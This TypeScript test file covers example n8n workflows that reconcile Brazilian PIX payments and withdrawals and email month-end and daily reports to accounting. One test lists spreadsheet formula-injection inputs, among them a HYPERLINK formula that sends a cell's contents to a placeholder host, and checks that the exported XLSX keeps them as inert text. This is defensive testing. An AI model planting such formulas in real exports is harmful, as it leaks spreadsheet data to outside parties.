/** The examples that compare and report what has moved, to accounting, in a real n8n. */
import { forgetPayouts, RECONCILIATION_EXAMPLE } from '../../../dev/demo/examples';
import type { Mail } from '../../../dev/demo/mailbox';
import { waitFor } from '../../../dev/n8n/process/waitFor';
import type { Execution } from '../../../dev/n8n/rest/executionData';
import {
	brlPayments,
	buildWorkflow,
	manualStart,
	payEachItem,
} from '../../../dev/n8n/rest/workflow';
import type { Payment } from '../../../dev/sandbox';
import { LEDGER_NAME } from '../../../nodes/shared/n8n/dataTable';
import { COLUMNS } from '../../../nodes/BrlPayments/orders/tableRow';
import { makeInvoices } from '../support/payouts';
import { loadXlsx, type Book } from '../support/xlsx';
import { DAY_MS, getError, legible, toDay, useExampleWorld } from './exampleWorld';

const world = useExampleWorld();

/** What an example sends to accounting when it runs without an error. */
async function mailOf(run: () => Promise<Execution>): Promise<Mail> {
	const [mail, execution] = await world.nextMail('accounting@example.com', run);
	expect(getError(execution)).toBeUndefined();
	return mail;
}

/** Yesterday in São Paulo, as `YYYY-MM-DD`. */
const yesterday = () => toDay(Date.now() - DAY_MS);
/** A day as Brazilians write it. */
const inWords = (day: string) => day.split('-').reverse().join('/');

const refuseStatements = () =>
	world.sandbox.faults.add({
		...{ method: 'GET', path: '/v1/documents/statements', kind: 'error', times: Infinity },
		code: 'FORBIDDEN',
	});

describe('the end of the month', () => {
	/** Of yesterday and today. */
	const run = async () => await world.closeMonth(yesterday(), toDay(Date.now()));

	const pay = (count: number) => {
		const payments = Array.from({ length: count }, (_, index) =>
			world.seedPayment({
				...{ submittedCents: 1_010 + 7 * index, createdAt: Date.now() - 20 * DAY_MS },
				...{
					description: `=Pedido;${index}`,
					customer: { name: 'Maria', document: '00734120664' },
				},
			}),
		);
		for (const { id } of payments) world.sandbox.setPaymentStatus(id, 'PAID');
		return payments;
	};

	const withdraw = (amountCents: number) => {
		const environment = 'PRODUCTION' as const;
		const { id } = world.sandbox.payByOtherTool({ environment, amountCents });
		world.sandbox.setWithdrawalStatus(id, 'COMPLETED');
		return world.sandbox.books.withdrawals.find((withdrawal) => withdrawal.id === id)!;
	};

	/** Refunds a payment, and waits until the money is back. Returns the TxID of the refund. */
	async function refund({ id }: Payment): Promise<string> {
		const parameters = { paymentId: id, reason: 'Order cancelled', options: {} };
		const nodes = [...manualStart([{}]), brlPayments('Refund', 'payment', 'refund', parameters)];
		await world.run(buildWorkflow('Refund', nodes));
		await waitFor(() => world.sandbox.books.refunds.some(({ status }) => status === 'COMPLETED'), {
			...{ what: 'the refund to be done', timeoutMs: 15_000 },
		});
		return world.sandbox.books.refunds.at(-1)!.txId;
	}

	const sum = (amounts: number[]) => amounts.reduce((total, amount) => total + amount, 0);
	const reais = (cents: number) =>
		legible((cents / 100).toLocaleString('pt-BR', { style: 'currency', currency: 'BRL' }));

	/** What the balance has changed by, as the service counts it. */
	async function statedChange(): Promise<number> {
		const days = `startDate=${yesterday()}&endDate=${toDay(Date.now())}`;
		const url = `${world.sandbox.url}/v1/documents/statements?${days}&format=text`;
		const headers = { authorization: `Bearer ${world.sandbox.keys.live}` };
		const { content } = (await (await fetch(url, { headers })).json()) as { content: string };
		const read = (name: string) => {
			const [, sign, digits] = new RegExp(`${name} balance: (-?)R\\$ ([\\d.,]+)`).exec(content)!;
			return Number(`${sign}${digits!.replace(/[.,]/g, '')}`);
		};
		return read('Closing') - read('Opening');
	}

	it('agrees with the statement to the centavo, in the file and the e-mail', async () => {
		const payments = pay(123);
		const withdrawals = [withdraw(20_010), withdraw(30_033)];
		// What is not of these days, or moved no money.
		world.seedPayment({ status: 'PAID', createdAt: Date.now() - 5 * DAY_MS });
		world.seedPayment({ status: 'EXPIRED', createdAt: Date.now() });
		world.seedWithdrawal({ status: 'FAILED', createdAt: Date.now(), processedAt: Date.now() });

		const { mail, lines } = await run();

		expect(mail.subject).toMatch(/^Fechamento de \p{L}+ de \d{4}: 0 diferenças$/u);
		const net = sum(payments.map(({ netCents }) => netCents));
		const fees = sum(payments.map(({ feeCents }) => feeCents));
		const out = sum(withdrawals.map(({ amountCents, feeCents }) => amountCents + feeCents));
		const outFees = sum(withdrawals.map(({ feeCents }) => feeCents));
		expect(await statedChange()).toBe(net - out);
		expect(mail.text).toContain(`Variação do saldo: ${reais(net - out)}\n`);
		expect(mail.text).toContain(`Extrato: ${reais(net - out)}, diferença de R$ 0,00\n`);
		expect(mail.text).toContain(`Tarifas do mês: ${reais(fees + outFees)}\n`);
		expect(mail.text).toContain('Diferenças\nNenhuma.');

		expect(Object.keys(lines[0]!)).toEqual([
			...['data', 'tipo', 'TxID', 'ID', 'forma', 'situação', 'nome ou chave PIX', 'CPF ou CNPJ'],
			...['descrição', 'referência', 'valor', 'tarifa', 'variação do saldo', 'no extrato'],
			'diferença',
		]);
		expect(lines.find(({ ID }) => ID === payments[0]!.id)).toMatchObject({
			...{ tipo: 'recebimento', forma: 'PIX', situação: 'pago', descrição: '=Pedido;0' },
			...{ 'CPF ou CNPJ': '007.341.206-64', valor: payments[0]!.amountCents / 100 },
			data: expect.stringMatching(/^\d\d\/\d\d\/\d{4} \d\d:\d\d$/),
		});
		expect(lines.slice(-3).map((line) => [line.tipo, line['variação do saldo']])).toEqual([
			['total de recebimentos', net / 100],
			['total de saques', -out / 100],
			['total do mês', (net - out) / 100],
		]);
		expect(lines).toHaveLength(123 + 2 + 3);
		const cents = lines
			.slice(0, -3)
			.map((line) => Math.round(Number(line['variação do saldo']) * 100));
		expect(sum(cents)).toBe(net - out);
		expect(lines.at(-1)).toMatchObject({ 'no extrato': (net - out) / 100 });
	});

	it('names each difference, and all together explain the difference of the totals', async () => {
		const [fine, disputed, refunded] = pay(3) as [Payment, Payment, Payment];
		world.sandbox.setPaymentStatus(disputed.id, 'CHARGEBACK');
		const refundTxId = await refund(refunded);
		// The lists have these, and the statement has no movement of them.
		const unstated = world.seedPayment({
			status: 'PAID',
			createdAt: Date.now(),
			amountCents: 5_000,
		});
		const withdrawal = world.seedWithdrawal({ status: 'COMPLETED', createdAt: Date.now() });

		const { mail, lines } = await run();

		const found = lines
			.filter(({ diferença }) => diferença)
			.map((line) => [line.TxID, line.diferença]);
		expect(found.sort()).toEqual(
			[
				[disputed.txId, 'contestado, o extrato mostra o estorno'],
				[refundTxId, 'só no extrato'],
				[unstated.txId, 'não está no extrato'],
				[withdrawal.txId, 'não está no extrato'],
			].sort(),
		);
		expect(mail.subject).toContain(': 4 diferenças');
		expect(mail.text).not.toContain(fine.txId);
		const listed = sum([fine, disputed, refunded, unstated].map(({ netCents }) => netCents));
		const change = listed - withdrawal.amountCents - withdrawal.feeCents;
		const stated = await statedChange();
		expect(mail.text).toContain(
			`Extrato: ${reais(stated)}, diferença de ${reais(stated - change)}\n`,
		);
	});

	it('shows which reference each withdrawal paid, and that one was paid twice', async () => {
		await forgetPayouts(world.client);
		const rows = makeInvoices(['NF-1', 'NF-2']);
		const node = payEachItem({}, {}, { reference: '={{ $json.invoice }}' });
		await world.run(buildWorkflow('Pay', [...manualStart(rows), node]));
		const [first, second] = rows.map(({ pixKey }) =>
			world.sandbox.books.withdrawals.find((each) => each.pixKey === pixKey)!,
		);
		for (const { id } of [first!, second!]) world.sandbox.setWithdrawalStatus(id, 'COMPLETED');
		const [strange, again] = [withdraw(4_321), withdraw(10_050)];
		await world.addTableRows('BRL Payouts', {
			...{ reference: 'NF-1', status: 'paid', withdrawalId: again.id, environment: 'live' },
		});

		const { mail, lines } = await run();

		const twice = 'a referência foi paga mais de uma vez';
		expect(
			lines
				.filter(({ tipo }) => tipo === 'saque')
				.map(({ ID, referência, diferença }) => [ID, referência, diferença])
				.sort(),
		).toEqual(
			[
				[first!.id, 'NF-1', twice],
				[second!.id, 'NF-2', ''],
				[strange.id, '', ''],
				[again.id, 'NF-1', twice],
			].sort(),
		);
		expect(mail.text).toContain(`${twice}: ${first!.txId}`);
		expect(mail.text).not.toContain('BRL Payouts');
	});

	it('writes the file also if the statement cannot be read, and for days without a movement', async () => {
		refuseStatements();
		const empty = await run();
		expect(empty.lines.map(({ tipo }) => tipo)).toEqual([
			'total de recebimentos',
			'total de saques',
			'total do mês',
		]);
		pay(2);
		const { mail, lines } = await run();
		expect(mail.text).toContain('Extrato: não pôde ser lido, e não foi comparado');
		expect(lines.map((line) => [line['no extrato'], line.diferença])).toEqual(
			Array.from({ length: 5 }, () => ['', '']),
		);
	});

	/** What a spreadsheet program takes for a number, a date or a formula if it may. */
	const TEXTS = [
		...['0012', '1E10', '20261001000123456', '12-2026', '1/2', '10,50', '1.234,56', '-1', 'TRUE'],
		...['=HYPERLINK("http://x.example/?"&A1,"recibo")', '\t=1+1', '\r=1+1', '\n=1+1', ' =1+1'],
		...['+55', '@SUM(1)', "'0012", '="0012"', '"a";b'],
	];

	it('writes each text as it is, into cells that stay text when the file is saved again', async () => {
		const documents: Record<string, string> = {
			...{ '45387012000159': '45.387.012/0001-59', '00734120664': '007.341.206-64' },
			...{ '7KB40X9Z000151': '7K.B40.X9Z/0001-51', '12345678E00131': '12.345.678/E001-31' },
			'***341206***': '***341206***',
		};
		const createdAt = Date.now();
		const paid = { status: 'PAID', createdAt } as const;
		const bank = { documentType: null, institutionName: null, institutionIspb: null };
		await world.createTable(LEDGER_NAME, COLUMNS);
		for (const text of TEXTS) {
			const payer = { ...bank, name: text, document: null };
			const { id } = world.seedPayment({ ...paid, description: text, payer });
			const charge = { kind: 'charge', status: 'created', environment: 'live' };
			await world.addTableRows(LEDGER_NAME, { ...charge, reference: text, paymentId: id });
		}
		for (const document of Object.keys(documents)) {
			world.seedPayment({ ...paid, payer: { ...bank, name: 'Maria', document } });
		}
		const keys = ['45387012000159', '00734120664', '+5541998765432', 'ana@payee.example'];
		for (const pixKey of keys) {
			world.seedWithdrawal({ status: 'COMPLETED', createdAt, processedAt: createdAt, pixKey });
		}

		const { file, lines } = await run();

		const values = (column: string) => lines.map((line) => line[column]);
		for (const column of ['descrição', 'referência', 'nome ou chave PIX']) {
			expect(values(column)).toEqual(expect.arrayContaining(TEXTS));
		}
		expect(values('CPF ou CNPJ')).toEqual(expect.arrayContaining(Object.values(documents)));
		expect(values('nome ou chave PIX')).toEqual(
			expect.arrayContaining([
				...['45.387.012/0001-59', '007.341.206-64', '+5541998765432', 'ana@payee.example'],
			]),
		);

		const { read, write } = loadXlsx(world.host);
		const cellsOf = ({ Sheets }: Book) =>
			Object.entries(Sheets.Fechamento!)
				.filter(([address]) => !address.startsWith('!'))
				.map(([address, { t, v, f }]) => ({ address, t, v, f }));
		const cells = cellsOf(read(file));
		// Amounts are in the columns K to N; the first line has the titles.
		const isAmount = (address: string) => /^[K-N](?!1$)/.test(address);
		const types = cells.map(({ address, t, v }) => [
			address,
			v === '' || !isAmount(address) ? 's' : 'n',
			t,
		]);
		expect(types.filter(([, expected, found]) => expected !== found)).toEqual([]);
		expect(cells.filter(({ f }) => f !== undefined)).toEqual([]);
		expect(cellsOf(read(write(read(file), { bookType: 'xlsx', type: 'buffer' })))).toEqual(cells);
	});

	it.each([
		...['0012', '1E10', '20261001000123456', '45387012000159', '12345678E00131', '1/2', 'TRUE'],
		'+5541998765432',
	])('is no CSV file, where %s would become something else', (text) => {
		const { read } = loadXlsx(world.host);
		const readBack = (cell: string) => {
			const { SheetNames, Sheets } = read(Buffer.from(`\uFEFFtitle\r\n${cell}\r\n`));
			return Sheets[SheetNames[0]!]!.A2!;
		};
		expect(readBack(text).t).not.toBe('s');
		// Shown with the apostrophe, which nobody finds when they look the number up.
		expect(readBack(`'${text}`).v).toBe(`'${text}`);
	});
});

describe('the daily reconciliation', () => {
	const run = async () => await world.runExample(RECONCILIATION_EXAMPLE, 'Every Day at 06:00');

	it('writes the rows of yesterday and their totals, each once, also when it runs again', async () => {
		const before = Date.now() - DAY_MS;
		const wanted = Array.from({ length: 104 }, (_value, index) =>
			world.seedPayment({ submittedCents: 1_010 + index, createdAt: before, status: 'PAID' }),
		);
		wanted.push(world.seedPayment({ submittedCents: 990, createdAt: before }));
		world.seedPayment({ submittedCents: 5_555, createdAt: before - 2 * DAY_MS, status: 'PAID' });
		world.seedPayment({ submittedCents: 6_666, createdAt: before + 2 * DAY_MS, status: 'PAID' });
		const withdrawals = [
			world.seedWithdrawal({ amountCents: 20_010, createdAt: before, status: 'COMPLETED' }),
			world.seedWithdrawal({ amountCents: 30_020, createdAt: before, status: 'COMPLETED' }),
		];

		expect(getError(await run())).toBeUndefined();
		expect(getError(await run())).toBeUndefined();

		const rows = await world.tableRows('Movements by day');
		expect(rows.map(({ txId }) => txId).sort()).toEqual(
			[...wanted, ...withdrawals].map(({ txId }) => txId).sort(),
		);
		const [first] = wanted as [(typeof wanted)[0]];
		expect(rows.find(({ txId }) => txId === first.txId)).toMatchObject({
			day: yesterday(),
			kind: 'payment',
			status: 'PAID',
			method: 'PIX',
			amount: first.amountCents / 100,
			fee: first.feeCents / 100,
			net: first.netCents / 100,
			created: new Date(first.createdAt).toISOString(),
			paid: new Date(first.createdAt).toISOString(),
		});
		const paid = wanted.filter(({ status }) => status === 'PAID');
		const totals = await world.tableRows('Totals by day');
		expect(totals).toHaveLength(3);
		expect(totals).toContainEqual(
			expect.objectContaining({
				kind: 'payment',
				status: 'PAID',
				number: 104,
				amount: paid.reduce((sum, { amountCents }) => sum + amountCents, 0) / 100,
				fee: (104 * first.feeCents) / 100,
			}),
		);
		expect(totals).toContainEqual(
			expect.objectContaining({
				kind: 'withdrawal',
				status: 'COMPLETED',
				number: 2,
				amount: 500.3,
			}),
		);
	});

	it('counts a movement once, under the status that it has now, and leaves other days alone', async () => {
		const withdrawal = world.seedWithdrawal({
			...{ amountCents: 10_000, createdAt: Date.now() - DAY_MS, status: 'PROCESSING' },
		});
		await world.addTableRows('Totals by day', { day: '2020-01-31', kind: 'payment', number: 7 });
		await run();
		withdrawal.status = 'COMPLETED';
		await run();
		const totals = await world.tableRows('Totals by day');
		const net = (10_000 + withdrawal.feeCents) / 100;
		expect(totals.filter(({ day }) => day === yesterday())).toEqual([
			expect.objectContaining({
				...{ kind: 'withdrawal', status: 'COMPLETED', number: 1, amount: 100, net },
			}),
		]);
		expect(totals).toContainEqual(expect.objectContaining({ day: '2020-01-31', number: 7 }));
	});

	it('reports what does not add up', async () => {
		const createdAt = Date.now() - DAY_MS;
		const missed = world.seedPayment({ createdAt, status: 'PAID' });
		const disputed = world.seedPayment({ createdAt, status: 'CHARGEBACK' });
		const fine = world.seedPayment({ createdAt, status: 'EXPIRED' });
		const failed = world.seedWithdrawal({
			createdAt,
			status: 'FAILED',
			errorMessage: 'The account is closed',
		});
		const waiting = world.seedWithdrawal({ createdAt, status: 'PROCESSING' });
		const done = world.seedWithdrawal({ createdAt, status: 'COMPLETED' });

		const mail = await mailOf(run);

		expect(mail.subject).toBe(`Conciliação de ${inWords(yesterday())}: 4 diferenças`);
		for (const difference of [
			`Pago, mas nenhum evento chegou: pagamento ${missed.txId}`,
			`Contestado (CHARGEBACK): pagamento ${disputed.txId}`,
			`Não pago (The account is closed): saque ${failed.txId}`,
			`Ainda em andamento: saque ${waiting.txId}`,
		]) {
			expect(mail.text).toContain(difference);
		}
		for (const { txId } of [fine, done]) expect(mail.text).not.toContain(txId);
	});

	it('shows which reference a withdrawal paid, and in which execution', async () => {
		const createdAt = Date.now() - DAY_MS;
		const [failed, other] = [1, 2].map(() => world.seedWithdrawal({ createdAt, status: 'FAILED' }));
		await world.createTable(LEDGER_NAME, COLUMNS);
		await world.addTableRows(LEDGER_NAME, {
			...{ reference: 'NF-77', status: 'failed', withdrawalId: failed!.id, execution: '41' },
		});

		const mail = await mailOf(run);

		expect(mail.text).toContain(`saque ${failed!.txId}, NF-77, execução 41, R$`);
		expect(mail.text).toContain(`saque ${other!.txId}, R$`);
		const rows = await world.tableRows('Movements by day');
		expect(rows.find(({ txId }) => txId === failed!.txId)).toMatchObject({
			...{ reference: 'NF-77', execution: '41' },
		});
	});

	it('finds events in its own table, not in one with a longer name', async () => {
		const seed = () => world.seedPayment({ createdAt: Date.now() - DAY_MS, status: 'PAID' });
		const [arrived, other] = [seed(), seed()];
		for (const [table, { txId }] of [
			['Payments received', arrived],
			['Payments received (copy)', other],
		] as const) {
			await world.createTable(table, [
				['txId', 'string'],
				['receivedAt', 'string'],
			]);
			await world.addTableRows(table, { txId, receivedAt: new Date().toISOString() });
		}
		const mail = await mailOf(run);
		expect(mail.subject).toContain(': 1 diferença');
		expect(mail.text).toContain(`Pago, mas nenhum evento chegou: pagamento ${other.txId}`);
		expect(mail.text).not.toContain(arrived.txId);
	});

	it('reports a day without movements, too', async () => {
		const mail = await mailOf(run);
		expect(mail.subject).toContain(': 0 diferenças');
		expect(mail.text).toContain('Nenhum movimento neste dia.');
	});
});
